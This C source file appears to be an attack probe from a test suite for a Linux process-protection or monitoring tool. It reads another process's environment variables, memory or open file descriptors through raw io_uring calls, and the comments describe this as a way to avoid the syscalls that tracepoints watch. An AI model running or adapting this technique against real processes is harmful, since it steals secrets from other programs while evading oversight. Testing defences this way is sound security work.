// SPDX-License-Identifier: Apache-2.0
/* ct-uring: reads another process's /proc files through io_uring
 * (IORING_OP_OPENAT, then IORING_OP_READ; raw syscalls, no liburing). No
 * open() or read() syscall is made, so no syscall tracepoint sees the file.
 *
 *   ct-uring [--sqpoll [--hold SECONDS]] WHAT PID [ADDR [FD]]
 *
 * WHAT: environ (/proc/PID/environ), mem (/proc/PID/mem at ADDR),
 *       fd_reopen (/proc/PID/fd/FD)
 * --sqpoll: a SQPOLL ring: a kernel thread of this process submits; this
 *           process makes no syscall once that thread is awake (it falls
 *           asleep when idle, and io_uring_enter() wakes it).
 * --hold:   keep the SQPOLL thread busy with NOPs for SECONDS (no syscall),
 *           printing {"ready":true} after the first, then attack: a ring
 *           made before anything was protected.
 * Prints one line as report.h describes. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#include "report.h"

struct ring {
	int fd;
	bool sqpoll;
	unsigned int *sq_head, *sq_tail, *sq_mask, *sq_array, *sq_flags;
	unsigned int *cq_head, *cq_tail, *cq_mask;
	struct io_uring_sqe *sqes;
	struct io_uring_cqe *cqes;
};

static int ring_setup(struct ring *r, bool sqpoll)
{
	struct io_uring_params p;
	size_t sq_len, cq_len;
	char *sq, *cq;

	memset(&p, 0, sizeof(p));
	if (sqpoll) {
		p.flags = IORING_SETUP_SQPOLL;
		p.sq_thread_idle = 60000; /* never needs a wake-up syscall */
	}
	r->sqpoll = sqpoll;
	r->fd = syscall(SYS_io_uring_setup, 4, &p);
	if (r->fd < 0)
		return -errno;
	sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned int);
	cq_len = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
	if (p.features & IORING_FEAT_SINGLE_MMAP)
		sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
	sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
		  IORING_OFF_SQ_RING);
	if (sq == MAP_FAILED)
		return -errno;
	cq = sq;
	if (!(p.features & IORING_FEAT_SINGLE_MMAP)) {
		cq = mmap(NULL, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
			  IORING_OFF_CQ_RING);
		if (cq == MAP_FAILED)
			return -errno;
	}
	r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
		       MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
	if (r->sqes == MAP_FAILED)
		return -errno;
	r->sq_head = (unsigned int *)(sq + p.sq_off.head);
	r->sq_tail = (unsigned int *)(sq + p.sq_off.tail);
	r->sq_mask = (unsigned int *)(sq + p.sq_off.ring_mask);
	r->sq_array = (unsigned int *)(sq + p.sq_off.array);
	r->sq_flags = (unsigned int *)(sq + p.sq_off.flags);
	r->cq_head = (unsigned int *)(cq + p.cq_off.head);
	r->cq_tail = (unsigned int *)(cq + p.cq_off.tail);
	r->cq_mask = (unsigned int *)(cq + p.cq_off.ring_mask);
	r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
	return 0;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts); /* vDSO: no syscall */
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* Submits one request and returns its result (cqe->res). A SQPOLL ring
 * is polled for the completion without a syscall. */
static int ring_do(struct ring *r, const struct io_uring_sqe *sqe)
{
	unsigned int tail = *r->sq_tail, idx = tail & *r->sq_mask, head;
	double deadline = now_s() + 5;
	int res;

	r->sqes[idx] = *sqe;
	r->sq_array[idx] = idx;
	__atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
	if (!r->sqpoll && syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0)
		return -errno;
	if (r->sqpoll && (__atomic_load_n(r->sq_flags, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP))
		syscall(SYS_io_uring_enter, r->fd, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
	head = *r->cq_head;
	while (__atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE) == head)
		if (now_s() > deadline)
			return -ETIMEDOUT;
	res = r->cqes[head & *r->cq_mask].res;
	__atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
	return res;
}

static int uring_read_file(struct ring *r, const char *path, unsigned long off, unsigned int len)
{
	struct io_uring_sqe sqe;
	long total = 0;
	int fd, n;

	memset(&sqe, 0, sizeof(sqe));
	sqe.opcode = IORING_OP_OPENAT;
	sqe.fd = AT_FDCWD;
	sqe.addr = (unsigned long)path;
	sqe.open_flags = O_RDONLY | O_CLOEXEC;
	fd = ring_do(r, &sqe);
	if (fd < 0)
		return report_err("io_uring OPENAT", -fd);
	do {
		memset(&sqe, 0, sizeof(sqe));
		sqe.opcode = IORING_OP_READ;
		sqe.fd = fd;
		sqe.addr = (unsigned long)(buf + total);
		sqe.len = len - total;
		sqe.off = off + total;
		n = ring_do(r, &sqe);
		if (n < 0 && total == 0)
			return report_err("io_uring READ", -n);
		total += n > 0 ? n : 0;
	} while (n > 0 && total < len);
	return report_ok(total);
}

int main(int argc, char **argv)
{
	bool sqpoll = false;
	double hold = 0;
	char path[64];
	unsigned long addr;
	struct ring r;
	int i = 1, err;

	setvbuf(stdout, NULL, _IOLBF, 0);
	for (; i < argc && argv[i][0] == '-'; i++) {
		if (strcmp(argv[i], "--sqpoll") == 0)
			sqpoll = true;
		else if (strcmp(argv[i], "--hold") == 0 && i + 1 < argc)
			hold = atof(argv[++i]);
	}
	if (argc - i < 2 || (hold && !sqpoll)) {
		fprintf(stderr, "usage: ct-uring [--sqpoll [--hold SECONDS]] WHAT PID [ADDR [FD]]\n");
		return 2;
	}
	what = argv[i];
	pid = atoi(argv[i + 1]);
	addr = argc > i + 2 ? strtoul(argv[i + 2], NULL, 0) : 0;
	err = ring_setup(&r, sqpoll);
	if (err)
		return report_err("io_uring_setup", -err);
	if (hold) {
		struct io_uring_sqe nop = { .opcode = IORING_OP_NOP };
		double until = now_s() + hold;

		err = ring_do(&r, &nop);
		if (err < 0)
			return report_err("io_uring NOP", -err);
		printf("{\"attack\":\"%s\",\"pid\":%d,\"ready\":true}\n", what, pid);
		while (now_s() < until)
			if ((err = ring_do(&r, &nop)) < 0)
				return report_err("io_uring NOP", -err);
	}
	if (strcmp(what, "environ") == 0) {
		snprintf(path, sizeof(path), "/proc/%d/environ", pid);
		return uring_read_file(&r, path, 0, sizeof(buf));
	}
	if (strcmp(what, "mem") == 0) {
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		return uring_read_file(&r, path, addr, 64);
	}
	if (strcmp(what, "fd_reopen") == 0) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid,
			 argc > i + 3 ? atoi(argv[i + 3]) : 0);
		return uring_read_file(&r, path, 0, sizeof(buf));
	}
	fprintf(stderr, "ct-uring: unknown attack %s\n", what);
	return 2;
}
